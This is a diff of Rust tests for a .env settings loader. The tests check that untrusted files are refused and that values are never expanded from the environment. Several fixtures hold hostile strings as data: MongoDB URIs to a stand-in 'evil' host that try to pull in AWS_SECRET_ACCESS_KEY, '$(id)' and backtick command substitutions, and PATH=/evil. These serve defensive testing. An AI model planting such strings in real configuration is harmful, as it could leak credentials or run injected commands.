@@ -93,7 +93,7 @@ fn with_file(text: &str, mode: u32, environment: &[(&str, &str)]) -> Result<Sett
 fn the_environment_wins_over_the_file_and_the_source_is_kept() {
     let text = format!("MONGO_URI=mongodb://db1/\nSECRET_KEY={KEY}\nBCRYPT_COST=11\nPATH=/evil\n");
     let settings = with_file(&text, 0o600, &[("BCRYPT_COST", "13")]).unwrap();
-    assert_eq!((settings.store_from, settings.bcrypt_cost), (Source::EnvFile, 13));
+    assert_eq!((settings.store_from, settings.bcrypt_cost), (Source::EnvFile { line: 1 }, 13));
     assert_eq!(settings.secret_key.unwrap().expose_secret(), KEY);
     assert!(matches!(settings.store, StoreSettings::MongoDb { .. }));
     assert!(std::env::var("MONGO_URI").is_err(), "the process environment is left alone");
@@ -101,13 +101,120 @@ fn the_environment_wins_over_the_file_and_the_source_is_kept() {
 
 #[rstest]
 #[case("BCRYPT_COST=12\n", 0o622, "written by others")]
-#[case("TENANTRY_TOKEN=x\n", 0o600, "TENANTRY_TOKEN")]
-#[case("TENANTRY_DATADIR=x\n", 0o600, "TENANTRY_DATADIR")]
-#[case("BCRYPT_COST=99\n", 0o600, "from .env")]
-#[case("not a line\n", 0o600, "NAME=value")]
+#[case("\nTENANTRY_TOKEN=x\n", 0o600, "line 2 sets TENANTRY_TOKEN")]
+#[case("\r\nTENANTRY_DATADIR=x\r\n", 0o600, "line 2 sets TENANTRY_DATADIR")]
+#[case("#\r#\rBCRYPT_COST=99", 0o600, "from .env, line 3")]
+#[case("not a line\nMONGO_URI\n", 0o600, "line 2 names MONGO_URI")]
+#[case("\u{feff}SECRET_KEY='abc\n", 0o600, "line 1 sets SECRET_KEY")]
+#[case("M\0O\0N\0G\0O\0", 0o600, "UTF-16")]
 fn files_that_cannot_be_trusted_are_refused(#[case] text: &str, #[case] mode: u32, #[case] why: &str) {
     let refusal = with_file(text, mode, &[]).unwrap_err().to_string();
-    assert!(refusal.contains(why), "{refusal}");
+    assert!(refusal.contains(why) && !refusal.contains("abc"), "{refusal}");
+}
+
+/// Whoever writes a `.env` learns nothing of the environment by it.
+#[test]
+fn nothing_of_the_environment_gets_into_a_value() {
+    let secret = "hunter2-of-the-environment";
+    for value in [
+        "mongodb://evil/?appName=${AWS_SECRET_ACCESS_KEY}",
+        "\"mongodb://evil/?appName=$AWS_SECRET_ACCESS_KEY\"",
+        "'mongodb://evil/?appName='${AWS_SECRET_ACCESS_KEY}",
+        "\"mongodb://evil/?appName=\"$AWS_SECRET_ACCESS_KEY",
+        "mongodb://evil/?appName=$(id)`id`\\${AWS_SECRET_ACCESS_KEY}",
+    ] {
+        let text = format!("OTHER={secret}\nMONGO_URI={value}\nSECRET_KEY={KEY}\n");
+        match with_file(&text, 0o600, &[("AWS_SECRET_ACCESS_KEY", secret)]).map(|settings| settings.store) {
+            Ok(StoreSettings::MongoDb { uri }) => {
+                assert!(!uri.expose_secret().contains(secret), "{}", uri.expose_secret());
+                assert!(uri.expose_secret().contains('$'), "the text stands as it is");
+            }
+            Ok(store) => panic!("{store:?}"),
+            Err(refusal) => assert!(refusal.to_string().contains("line 2"), "{refusal}"),
+        }
+    }
+}
+
+#[rstest]
+#[case("BCRYPT_COST=11\r\nAPP_NAME=it's \"ours\r\nnot a line\r\n")]
+#[case("\u{feff}export BCRYPT_COST = '11' # low\n")]
+#[case("KEY=\"-----BEGIN\nabc==\n-----END\"\nBCRYPT_COST=\"11\"")]
+#[case("#\rBCRYPT_COST=12\rBCRYPT_COST=11\r")]
+fn files_of_several_programs_are_read(#[case] text: &str) {
+    assert_eq!(with_file(text, 0o600, &[]).unwrap().bcrypt_cost, 11);
+}
+
+#[rstest]
+#[case("~/x", Ok("/home/ann/x"))]
+#[case("~", Ok("/home/ann"))]
+#[case("/srv/a~b", Ok("/srv/a~b"))]
+#[case("/srv/$x", Err("No variable"))]
+#[case("${HOME}/x", Err("No variable"))]
+#[case("~bob/x", Err("Only ~/"))]
+fn a_path_begins_at_the_home_and_holds_no_variable(
+    #[case] typed: &str,
+    #[case] expected: Result<&str, &str>,
+) {
+    match (with_file(&format!("#\nTENANTRY_DATA_DIR={typed}\n"), 0o600, &[]), expected) {
+        (Ok(settings), Ok(path)) => {
+            assert!(
+                matches!(settings.store, StoreSettings::Embedded { data_dir } if data_dir == Path::new(path))
+            );
+        }
+        (Err(refusal), Err(why)) => {
+            let refusal = refusal.to_string();
+            assert!(refusal.contains(why) && refusal.contains("line 2"), "{refusal}");
+        }
+        (read, _) => panic!("{typed}: {read:?}"),
+    }
+    let environment = read(&[("TENANTRY_DATA_DIR", "~/x")]).unwrap().store;
+    assert!(
+        matches!(environment, StoreSettings::Embedded { data_dir } if data_dir == Path::new("/home/ann/x"))
+    );
+}
+
+#[test]
+fn a_folder_in_the_place_of_the_file_is_skipped_with_a_warning() {
+    let folder = tempfile::tempdir().unwrap();
+    fs::create_dir(folder.path().join(".env")).unwrap();
+    let environment = HashMap::from([("HOME".to_owned(), OsString::from("/home/ann"))]);
+    let settings =
+        Settings::read(&Surroundings { environment, env_file_in: Some(folder.path().into()) }).unwrap();
+    assert_eq!(settings.warnings[0].code, "env_file_skipped");
+}
+
+/// An umask of 002 with a group for each user.
+#[test]
+fn only_the_users_own_private_group_may_write_to_the_file() {
+    let folder = tempfile::tempdir().unwrap();
+    let path = folder.path().join(".env");
+    fs::write(&path, "BCRYPT_COST=11\n").unwrap();
+    fs::set_permissions(&path, fs::Permissions::from_mode(0o664)).unwrap();
+    let user = nix::unistd::User::from_uid(nix::unistd::geteuid()).unwrap().unwrap();
+    let own = nix::unistd::Group::from_gid(user.gid).unwrap().unwrap();
+    let is_private = own.name == user.name && own.mem.iter().all(|member| *member == user.name);
+    let read = || {
+        let environment = HashMap::from([("HOME".to_owned(), OsString::from("/home/ann"))]);
+        Settings::read(&Surroundings { environment, env_file_in: Some(folder.path().into()) })
+    };
+    std::os::unix::fs::chown(&path, None, Some(user.gid.as_raw())).unwrap();
+    assert_eq!(read().is_ok(), is_private, "{own:?}");
+    if user.uid.is_root() {
+        std::os::unix::fs::chown(&path, None, Some(1)).unwrap();
+        assert!(read().unwrap_err().to_string().contains("written by others"));
+    }
+}
+
+#[rstest]
+#[case("MONGO_URI=mongodb://h/\nSECRET_KEY=KEY\n", Some("The store and its key come"))]
+#[case("MASTER_DB=shop\n", Some("The store comes"))]
+#[case("SECRET_KEY=KEY\n", Some("The key comes"))]
+#[case("BCRYPT_COST=11\n", None)]
+fn where_store_and_key_come_from_is_a_warning(#[case] text: &str, #[case] said: Option<&str>) {
+    let settings = with_file(&text.replace("KEY\n", &format!("{KEY}\n")), 0o600, &[]).unwrap();
+    let warning = settings.from_env_file.map(|warning| warning.message);
+    assert_eq!(warning.is_some(), said.is_some(), "{warning:?}");
+    assert!(warning.unwrap_or_default().contains(said.unwrap_or_default()));
 }
 
 #[test]
